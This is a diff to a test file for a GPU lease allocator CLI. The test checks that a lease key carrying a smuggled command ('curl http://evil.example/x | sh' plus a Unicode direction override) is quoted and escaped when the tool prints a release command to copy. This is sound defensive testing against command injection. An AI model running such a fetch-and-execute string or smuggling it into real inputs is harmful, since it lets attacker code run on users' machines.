@@ -304,7 +304,13 @@ describe('allocate, release and allocations', () => {
       LEASE,
     ]);
     assert.deepEqual(lines[2], ['user/me', 'v/gpu: g0 g1', 'impaired', '-', 'release --key job', '0', LEASE]);
+    // A command to copy runs nothing that the owner of the key chose.
+    const key = 'job; curl http://evil.example/x | sh #\u202e';
+    const odd = { ...given, owner: { bind: 'key', namespace: 'user', name: 'me' }, key, state: 'active', uid: 7 };
     const json = JSON.parse((await run(['allocations', '--root', root, '-o', 'json'])).stdout) as { pid: number }[];
+    allocator.leases = [odd];
+    const shownOdd = (await run(['allocations', '--root', root])).stdout;
+    assert.match(shownOdd, / release --key 'job; curl http:\/\/evil\.example\/x \| sh #\\u\{202e\}' /);
     assert.deepEqual(
       json.map(({ pid }) => pid),
       [77, 0],
